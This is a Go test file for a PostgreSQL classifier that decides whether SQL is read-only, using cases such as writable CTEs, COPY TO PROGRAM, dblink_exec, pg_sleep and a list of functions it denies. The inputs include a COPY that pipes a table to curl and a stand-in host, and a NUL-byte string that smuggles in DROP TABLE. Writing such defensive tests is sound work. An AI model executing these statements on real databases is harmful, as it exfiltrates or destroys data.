package sqlclass

import (
	"bufio"
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	pg_query "github.com/pganalyze/pg_query_go/v6"
	"google.golang.org/protobuf/reflect/protoreflect"
	"google.golang.org/protobuf/reflect/protoregistry"
)

// corpusCase is one line of a cases file: SQL and the verdict a read-only
// policy must reach.
type corpusCase struct {
	ID     string `json:"id"`
	SQL    string `json:"sql"`
	Expect string `json:"expect"`
	Why    string `json:"why"`
}

// corpora are the shared corpus and this package's own cases.
var corpora = []string{
	filepath.Join("..", "..", "..", "..", "shared", "corpus", "sql-readonly.jsonl"),
	filepath.Join("testdata", "cases.jsonl"),
}

func loadCases(t testing.TB, path string) []corpusCase {
	t.Helper()
	if strings.Contains(path, "shared") {
		// The shared corpus lives beside the checkout.
		path = filepath.Join("/work", "shared", "corpus", "sql-readonly.jsonl")
	}
	f, err := os.Open(path)
	if err != nil {
		t.Fatalf("open corpus: %v", err)
	}
	defer f.Close()
	var cases []corpusCase
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		if len(bytes.TrimSpace(sc.Bytes())) == 0 {
			continue
		}
		var c corpusCase
		dec := json.NewDecoder(bytes.NewReader(sc.Bytes()))
		dec.DisallowUnknownFields()
		if err := dec.Decode(&c); err != nil {
			t.Fatalf("%s: bad line %q: %v", path, sc.Text(), err)
		}
		if c.ID == "" || (c.Expect != "allow" && c.Expect != "deny") {
			t.Fatalf("%s: case %q needs an id and expect allow or deny", path, c.ID)
		}
		cases = append(cases, c)
	}
	if err := sc.Err(); err != nil {
		t.Fatalf("read %s: %v", path, err)
	}
	if len(cases) == 0 {
		t.Fatalf("%s holds no cases", path)
	}
	return cases
}

func TestCorpora(t *testing.T) {
	for _, path := range corpora {
		seen := map[string]bool{}
		for _, c := range loadCases(t, path) {
			if seen[c.ID] {
				t.Errorf("%s: duplicate id %s", path, c.ID)
			}
			seen[c.ID] = true
			t.Run(c.ID, func(t *testing.T) {
				r := Classify(c.SQL)
				want := c.Expect == "allow"
				if r.ReadOnly != want {
					t.Fatalf("Classify(%q).ReadOnly = %v, want %v (%s)\nreasons: %q\nerror: %s",
						c.SQL, r.ReadOnly, want, c.Why, r.Reasons, r.Error)
				}
				// A denial by syntax error would test nothing but the parser.
				if r.Unparseable && !strings.Contains(c.ID, "unparseable") && !strings.Contains(c.ID, "null-byte") {
					t.Errorf("case does not parse (%s); fix the SQL or name it unparseable", r.Error)
				}
				// A denial always says why; an allowance never carries a reason.
				if r.ReadOnly != (len(r.Reasons) == 0) {
					t.Errorf("ReadOnly %v with reasons %q", r.ReadOnly, r.Reasons)
				}
				checkInvariant(t, c.SQL, r)
			})
		}
	}
}

func TestOwnCasesAreMany(t *testing.T) {
	if n := len(loadCases(t, corpora[1])); n < 150 {
		t.Errorf("testdata/cases.jsonl has %d cases, want at least 150", n)
	}
}

// checkInvariant re-parses sql independently of the walker and fails if a
// read-only verdict covers a statement that is not SELECT (without INTO or
// row locks), SHOW, or EXPLAIN without ANALYZE of such a SELECT.
func checkInvariant(t testing.TB, sql string, r *Result) {
	t.Helper()
	if !r.ReadOnly {
		return
	}
	if r.Unparseable || r.Statements == 0 || r.WritesData || r.ChangesSchema || r.ChangesPrivileges ||
		r.ChangesSettings || r.ControlsTransaction || r.Locks || r.ExecutesCode || r.TouchesFiles ||
		r.OtherConnections || len(r.TablesWritten) > 0 {
		t.Fatalf("read-only result with an effect set: %+v", r)
	}
	tree, err := pg_query.Parse(sql)
	if err != nil {
		t.Fatalf("read-only verdict for text that does not parse: %v", err)
	}
	if len(tree.Stmts) == 0 {
		t.Fatalf("read-only verdict for text without statements")
	}
	for i, raw := range tree.Stmts {
		switch s := raw.GetStmt().GetNode().(type) {
		case *pg_query.Node_SelectStmt:
			if !plainSelect(s.SelectStmt) {
				t.Fatalf("statement %d: read-only SELECT with INTO or locking: %q", i+1, sql)
			}
		case *pg_query.Node_VariableShowStmt:
		case *pg_query.Node_ExplainStmt:
			for _, o := range s.ExplainStmt.Options {
				if strings.EqualFold(o.GetDefElem().GetDefname(), "analyze") {
					t.Fatalf("statement %d: read-only EXPLAIN ANALYZE: %q", i+1, sql)
				}
			}
			inner := s.ExplainStmt.GetQuery().GetSelectStmt()
			if inner == nil || !plainSelect(inner) {
				t.Fatalf("statement %d: read-only EXPLAIN of a non-SELECT: %q", i+1, sql)
			}
		default:
			t.Fatalf("statement %d: read-only verdict for %T: %q", i+1, s, sql)
		}
	}
}

func plainSelect(s *pg_query.SelectStmt) bool {
	if s.IntoClause != nil || len(s.LockingClause) > 0 {
		return false
	}
	for _, arm := range []*pg_query.SelectStmt{s.Larg, s.Rarg} {
		if arm != nil && !plainSelect(arm) {
			return false
		}
	}
	return true
}

func TestResultDetails(t *testing.T) {
	tests := []struct {
		name string
		sql  string
		want Result
	}{
		{
			name: "writable CTE under SELECT",
			sql:  "WITH x AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT count(*) FROM x",
			want: Result{
				Statements: 1, Kinds: []string{"select", "update"}, WritesData: true,
				TablesRead: []string{}, TablesWritten: []string{"accounts"}, Functions: []string{"count"},
				Reasons: []string{"statement 1 (SELECT) writes table accounts with UPDATE"},
			},
		},
		{
			name: "second statement writes",
			sql:  "SELECT * FROM public.accounts; DELETE FROM transfers WHERE id IN (SELECT id FROM old)",
			want: Result{
				Statements: 2, Kinds: []string{"select", "delete"}, WritesData: true,
				TablesRead: []string{"public.accounts", "old"}, TablesWritten: []string{"transfers"}, Functions: []string{},
				Reasons: []string{"statement 2 (DELETE) writes table transfers"},
			},
		},
		{
			name: "names are normalised and quoted when needed",
			sql:  `SELECT * FROM "My Schema"."Accounts", ACCOUNTS, "a.b", "we""ird"`,
			want: Result{
				Statements: 1, Kinds: []string{"select"}, ReadOnly: true,
				TablesRead:    []string{`"My Schema"."Accounts"`, "accounts", `"a.b"`, `"we""ird"`},
				TablesWritten: []string{}, Functions: []string{}, Reasons: []string{},
			},
		},
		{
			name: "CTE names hide only where visible",
			sql:  "SELECT * FROM secrets, (WITH secrets AS (SELECT 1) SELECT * FROM secrets) s",
			want: Result{
				Statements: 1, Kinds: []string{"select"}, ReadOnly: true,
				TablesRead: []string{"secrets"}, TablesWritten: []string{}, Functions: []string{}, Reasons: []string{},
			},
		},
		{
			name: "a non-recursive CTE reading its own name reads the table",
			sql:  "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets",
			want: Result{
				Statements: 1, Kinds: []string{"select"}, ReadOnly: true,
				TablesRead: []string{"secrets"}, TablesWritten: []string{}, Functions: []string{}, Reasons: []string{},
			},
		},
		{
			name: "copy to program",
			sql:  "COPY accounts TO PROGRAM 'curl -d @- example.invalid'",
			want: Result{
				Statements: 1, Kinds: []string{"copy"}, ExecutesCode: true,
				TablesRead: []string{"accounts"}, TablesWritten: []string{}, Functions: []string{},
				Reasons: []string{
					"statement 1 (COPY) runs a program on the server (COPY PROGRAM)",
					"statement 1 (COPY) is COPY, which is never treated as read-only (use SELECT)",
				},
			},
		},
		{
			name: "dblink",
			sql:  "SELECT dblink_exec('dbname=x', 'DELETE FROM accounts')",
			want: Result{
				Statements: 1, Kinds: []string{"select"}, OtherConnections: true, ExecutesCode: true,
				TablesRead: []string{}, TablesWritten: []string{}, Functions: []string{"dblink_exec"},
				Reasons: []string{
					"statement 1 (SELECT) calls dblink_exec, which acts on other connections",
					"statement 1 (SELECT) calls dblink_exec, which is not a known read-only built-in function",
				},
			},
		},
		{
			name: "built-in with a reviewed side effect",
			sql:  "SELECT pg_catalog.setval('s', 1)",
			want: Result{
				Statements: 1, Kinds: []string{"select"}, WritesData: true,
				TablesRead: []string{}, TablesWritten: []string{}, Functions: []string{"pg_catalog.setval"},
				Reasons: []string{"statement 1 (SELECT) calls pg_catalog.setval, which writes data"},
			},
		},
		{
			name: "pg_sleep delays, so it is not read-only",
			sql:  "SELECT pg_sleep(1)",
			want: Result{
				Statements: 1, Kinds: []string{"select"}, Delays: true,
				TablesRead: []string{}, TablesWritten: []string{}, Functions: []string{"pg_sleep"},
				Reasons: []string{"statement 1 (SELECT) calls pg_sleep, which delays the session"},
			},
		},
		{
			name: "set transaction",
			sql:  "SET TRANSACTION READ WRITE",
			want: Result{
				Statements: 1, Kinds: []string{"set"}, ControlsTransaction: true, ChangesSettings: true,
				TablesRead: []string{}, TablesWritten: []string{}, Functions: []string{},
				Reasons: []string{
					"statement 1 (SET) changes transaction characteristics",
					"statement 1 (SET) changes setting transaction",
				},
			},
		},
		{
			name: "drop names its tables",
			sql:  `DROP TABLE accounts, audit."Log"`,
			want: Result{
				Statements: 1, Kinds: []string{"drop"}, ChangesSchema: true,
				TablesRead: []string{}, TablesWritten: []string{"accounts", `audit."Log"`}, Functions: []string{},
				Reasons: []string{"statement 1 (DROP) changes the schema"},
			},
		},
		{
			name: "create view reads its query and writes the view",
			sql:  "CREATE VIEW v AS SELECT * FROM accounts",
			want: Result{
				Statements: 1, Kinds: []string{"create_view"}, ChangesSchema: true,
				TablesRead: []string{"accounts"}, TablesWritten: []string{"v"}, Functions: []string{},
				Reasons: []string{"statement 1 (CREATE VIEW) changes the schema"},
			},
		},
		{
			name: "revoke and grant kinds",
			sql:  "REVOKE ALL ON accounts FROM app",
			want: Result{
				Statements: 1, Kinds: []string{"revoke"}, ChangesPrivileges: true,
				TablesRead: []string{}, TablesWritten: []string{"accounts"}, Functions: []string{},
				Reasons: []string{"statement 1 (REVOKE) changes privileges"},
			},
		},
		{
			name: "advisory lock",
			sql:  "SELECT pg_advisory_lock(1)",
			want: Result{
				Statements: 1, Kinds: []string{"select"}, Locks: true,
				TablesRead: []string{}, TablesWritten: []string{}, Functions: []string{"pg_advisory_lock"},
				Reasons: []string{"statement 1 (SELECT) calls pg_advisory_lock, which takes locks"},
			},
		},
		{
			name: "select into",
			sql:  "SELECT id INTO TEMP copy FROM accounts",
			want: Result{
				Statements: 1, Kinds: []string{"select"}, WritesData: true, ChangesSchema: true,
				TablesRead: []string{"accounts"}, TablesWritten: []string{"copy"}, Functions: []string{},
				Reasons: []string{"statement 1 (SELECT) creates table copy (SELECT INTO)"},
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Classify(tt.sql)
			if diff := cmp.Diff(&tt.want, got); diff != "" {
				t.Errorf("Classify(%q) mismatch (-want +got):\n%s", tt.sql, diff)
			}
		})
	}
}

func TestRefusedInput(t *testing.T) {
	tests := []struct {
		name, sql, errPart string
	}{
		{"invalid UTF-8", "SELECT '\xff'", "UTF-8"},
		{"NUL byte", "SELECT 1\x00; DROP TABLE accounts", "NUL"},
		{"too long", "SELECT " + strings.Repeat("1+", MaxInputBytes/2) + "1", "longer"},
		{"syntax error", "SELEC 1", "syntax error"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := Classify(tt.sql)
			if r.ReadOnly || !r.Unparseable || !strings.Contains(r.Error, tt.errPart) || len(r.Reasons) == 0 {
				t.Errorf("got ReadOnly=%v Unparseable=%v Error=%q Reasons=%q, want unparseable with %q",
					r.ReadOnly, r.Unparseable, r.Error, r.Reasons, tt.errPart)
			}
		})
	}
}

func TestDeepNestingFailsClosed(t *testing.T) {
	// Deep nesting must end in a verdict, not a crash.
	for _, n := range []int{100, 5000, 50000} {
		sql := "SELECT " + strings.Repeat("(", n) + "1" + strings.Repeat(")", n)
		r := Classify(sql)
		if n <= 100 && !r.ReadOnly {
			t.Errorf("depth %d: want read-only, got reasons %q error %q", n, r.Reasons, r.Error)
		}
		if n > 5000 && r.ReadOnly {
			t.Errorf("depth %d: parser limits must not yield read-only", n)
		}
	}
}

func TestManyReasonsAreBounded(t *testing.T) {
	var b strings.Builder
	for i := range 500 {
		if i > 0 {
			b.WriteString("; ")
		}
		b.WriteString("UPDATE t" + strings.Repeat("x", i%7) + " SET a = " + strings.Repeat("1", 1+i%5))
		b.WriteString(" WHERE id = 1")
	}
	r := Classify(b.String())
	if r.ReadOnly || len(r.Reasons) != maxReasons+1 || r.Reasons[maxReasons] != "further reasons left out" {
		t.Errorf("got %d reasons, want %d then a marker", len(r.Reasons), maxReasons)
	}
}

func TestMapKeysMatchJSON(t *testing.T) {
	r := Classify("SELECT lower(name) FROM accounts; UPDATE t SET a = 1")
	raw, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	var fromJSON map[string]any
	if err := json.Unmarshal(raw, &fromJSON); err != nil {
		t.Fatal(err)
	}
	m := r.Map()
	var jsonKeys, mapKeys []string
	for k := range fromJSON {
		jsonKeys = append(jsonKeys, k)
	}
	for k := range m {
		mapKeys = append(mapKeys, k)
	}
	slices.Sort(jsonKeys)
	slices.Sort(mapKeys)
	if diff := cmp.Diff(jsonKeys, mapKeys); diff != "" {
		t.Fatalf("Map keys differ from JSON names (-json +map):\n%s", diff)
	}
	// Every struct field has a JSON name, so the map covers all of them.
	if n := reflect.TypeOf(Result{}).NumField(); n != len(mapKeys) {
		t.Errorf("Result has %d fields, Map has %d keys", n, len(mapKeys))
	}
	for k, v := range m {
		switch v := v.(type) {
		case []any:
			for _, e := range v {
				if _, ok := e.(string); !ok {
					t.Errorf("%s: list element %T, want string", k, e)
				}
			}
		case bool, string, int64:
		default:
			t.Errorf("%s: value of type %T, want []any, bool, string or int64", k, v)
		}
	}
	if m["statements"] != int64(2) || m["read_only"] != false || m["writes_data"] != true {
		t.Errorf("map values wrong: statements=%v read_only=%v writes_data=%v", m["statements"], m["read_only"], m["writes_data"])
	}
	if got := m["tables_written"].([]any); len(got) != 1 || got[0] != "t" {
		t.Errorf("tables_written = %v, want [t]", got)
	}
}

func TestClassifyJSON(t *testing.T) {
	var out bytes.Buffer
	if err := ClassifyJSON(strings.NewReader("SELECT count(*) FROM accounts"), &out); err != nil {
		t.Fatal(err)
	}
	var got map[string]any
	if err := json.Unmarshal(out.Bytes(), &got); err != nil {
		t.Fatalf("output is not one JSON object: %v\n%s", err, out.String())
	}
	if got["read_only"] != true || got["statements"] != float64(1) {
		t.Errorf("got %v", got)
	}
	if !strings.Contains(out.String(), "\n  \"read_only\": true") {
		t.Errorf("output is not indented:\n%s", out.String())
	}

	out.Reset()
	long := strings.NewReader("SELECT 1" + strings.Repeat(" ", MaxInputBytes))
	if err := ClassifyJSON(long, &out); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), `"unparseable": true`) {
		t.Errorf("over-long input not refused:\n%s", out.String())
	}
}

func TestParserImplementsClassifier(t *testing.T) {
	var c Classifier = Parser{}
	if r := c.Classify("SELECT 1"); !r.ReadOnly {
		t.Errorf("Parser.Classify(SELECT 1) not read-only: %q", r.Reasons)
	}
	if r := c.Classify("DELETE FROM t"); r.ReadOnly {
		t.Error("Parser.Classify(DELETE) read-only")
	}
}

// TestStatementTableNamesRealTypes keeps the statement table in step with
// the parser: every key must be a parse-tree message, and every statement
// message must be either in the table or judged by the walker.
func TestStatementTableNamesRealTypes(t *testing.T) {
	handled := map[string]bool{
		"SelectStmt": true, "InsertStmt": true, "UpdateStmt": true, "DeleteStmt": true,
		"MergeStmt": true, "CopyStmt": true, "ExplainStmt": true, "VariableShowStmt": true,
		"VariableSetStmt": true,
		// Only inside PL/pgSQL bodies; unknown at the top level fails closed.
		"ReturnStmt": true, "PLAssignStmt": true, "RawStmt": true,
		// Produced by analysis or inside ALTER TABLE, never a raw statement.
		"SetOperationStmt": true, "ReplicaIdentityStmt": true,
	}
	pkg := (&pg_query.Node{}).ProtoReflect().Descriptor().ParentFile().Package()
	for name := range statements {
		if _, err := protoregistry.GlobalTypes.FindMessageByName(pkg.Append(protoreflect.Name(name))); err != nil {
			t.Errorf("statement table names %s, which the parser does not have", name)
		}
	}
	msgs := (&pg_query.Node{}).ProtoReflect().Descriptor().ParentFile().Messages()
	for i := range msgs.Len() {
		name := string(msgs.Get(i).Name())
		if strings.HasSuffix(name, "Stmt") && !handled[name] {
			if _, ok := statements[name]; !ok {
				t.Errorf("parser statement %s is not in the statement table", name)
			}
		}
	}
}

func TestCatalog(t *testing.T) {
	cat, err := loadCatalog()
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"lower", "count", "sum", "row_number", "now", "generate_series", "jsonb_build_object", "random", "currval"} {
		if cat.functions[name] != "read" {
			t.Errorf("%s missing from the allow-list", name)
		}
	}
	for _, name := range []string{"nextval", "setval", "set_config", "pg_read_file", "lo_import", "pg_terminate_backend",
		"query_to_xml", "table_to_xml", "pg_advisory_lock", "pg_reload_conf", "txid_current", "dblink_exec", "pg_notify"} {
		if readOnlyClass(cat.functions[name]) {
			t.Errorf("%s must not be on the allow-list", name)
		}
		if cat.sideEffect(name) == "" {
			t.Errorf("%s matches no side-effect pattern", name)
		}
	}
	if cat.functions["pg_sleep"] != "sleep" {
		t.Errorf("pg_sleep class = %q, want sleep", cat.functions["pg_sleep"])
	}
	for _, op := range []string{"=", "<>", "+", "||", "~~", "->>", "@>"} {
		if !cat.operators[op] {
			t.Errorf("operator %s missing", op)
		}
	}
}

func TestParseCatalogRejectsBadData(t *testing.T) {
	for _, text := range []string{
		"",
		"func lower read\n",
		"func lower read\nop =\nfunc x maybe\n",
		"func lower read\nop =\npattern [ writes\n",
		"func lower read\nop =\npattern x nonsense\n",
	} {
		if _, err := parseCatalog(text); err == nil {
			t.Errorf("parseCatalog(%q) accepted bad data", text)
		}
	}
}

func TestConcurrentUse(t *testing.T) {
	// The request path classifies from many goroutines at once.
	queries := []string{"SELECT 1", "DELETE FROM t", "WITH x AS (SELECT 1) SELECT * FROM x", "SELEC"}
	want := make([]*Result, len(queries))
	for i, q := range queries {
		want[i] = Classify(q)
	}
	errs := make(chan string, 8)
	for g := range 8 {
		go func() {
			for i := range 50 {
				q := (g + i) % len(queries)
				if diff := cmp.Diff(want[q], Classify(queries[q])); diff != "" {
					errs <- diff
					return
				}
			}
			errs <- ""
		}()
	}
	for range 8 {
		if d := <-errs; d != "" {
			t.Errorf("concurrent result differs:\n%s", d)
		}
	}
}
